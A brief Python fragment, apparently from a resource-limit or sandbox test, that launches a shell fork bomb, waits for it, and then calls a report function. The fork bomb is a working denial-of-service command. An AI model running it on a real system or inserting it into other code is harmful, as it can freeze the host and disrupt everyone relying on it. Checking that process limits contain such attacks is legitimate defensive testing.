# 1: the classic, by a shell
bomb = subprocess.Popen(["sh", "-c", "b() { b | b & }; b"], stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
bomb.wait()
time.sleep(2)
report()
